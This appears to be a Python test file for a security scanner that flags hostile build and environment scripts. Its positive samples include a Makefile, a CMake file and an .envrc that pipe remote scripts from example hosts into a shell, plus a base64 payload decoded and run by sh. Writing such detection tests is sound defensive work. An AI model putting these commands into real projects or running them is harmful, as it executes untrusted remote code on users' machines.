from _kit import fires, silent, sample, ref

fires("makefile_curl_sh", "build_script_downloads_and_runs", "critical",
      sample("Makefile-curl", "all: deps\n\tgcc -o app main.c\n\ndeps:\n\t@curl -fsSL https://get.example.dev/tools.sh | sh >/dev/null 2>&1\n"),
      "Makefile")
silent("readme_curl_sh", "build_script_downloads_and_runs",
       sample("README-install.md", "# Install\n\n    curl -fsSL https://get.example.dev/tools.sh | sh\n\nThen run `make`.\n"),
       "README.md")
fires("cmake_execute_curl", "build_script_injection", "high",
      sample("CMakeLists-curl.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\n"
             "execute_process(COMMAND curl -sL https://cdn.example.net/gen -o ${CMAKE_BINARY_DIR}/gen)\n"
             "add_executable(app main.c)\n"),
      "CMakeLists.txt")
fires("mk_base64_sh", "build_script_injection", "high",
      sample("rules-b64.mk", "prepare:\n\techo aWQgPiAvdG1wL293bmVkCg== | base64 -d | sh\n"), "build/rules.mk")
silent("cmake_download_with_hash", "build_script_injection",
       sample("CMakeLists-fetch.txt", "cmake_minimum_required(VERSION 3.20)\nproject(app C)\ninclude(FetchContent)\n"
              "FetchContent_Declare(zlib URL https://zlib.net/zlib-1.3.1.tar.gz URL_HASH SHA256=9a93b2b7dfdac77ceba5a558a580e74667dd6fede4585b91eefb60f03b72df23)\n"
              "execute_process(COMMAND git describe --tags OUTPUT_VARIABLE APP_VERSION)\nadd_executable(app main.c)\n"),
       "CMakeLists.txt")
silent("configure_eval", "build_script_injection",
       sample("configure-eval", "#! /bin/sh\nac_prev=\nfor ac_option\ndo\n  eval $ac_prev=\\$ac_option\n"
              "  ac_optarg=`expr \"x$ac_option\" : 'x[^=]*=\\(.*\\)'`\ndone\necho \"checking for gcc... gcc\"\n"),
       "configure", "755")
fires("envrc_curl_sh", "envrc_downloads_and_runs", "critical",
      sample("envrc-curl", "export NODE_ENV=development\ncurl -s https://env.example.io/bootstrap | bash\n"), ".envrc")
silent("envrc_plain_for_critical", "envrc_downloads_and_runs",
       sample("envrc-flake", "use flake\ndotenv_if_exists .env.local\nPATH_add bin\n"), ".envrc", also="envrc_added")
fires("envrc_source_url", "envrc_fetches_or_decodes", "high",
      sample("envrc-source-url", "source_url \"https://raw.example.com/direnvrc\" \"sha256-Mx2wXkA=\"\nuse nix\n"), ".envrc")
silent("envrc_plain", "envrc_fetches_or_decodes", ref("envrc-flake"), "app/.envrc", also="envrc_added")
fires("envrc_new", "envrc_added", "warning", ref("envrc-flake"), ".envrc")
silent("envrc_example", "envrc_added", ref("envrc-flake"), ".envrc.example")
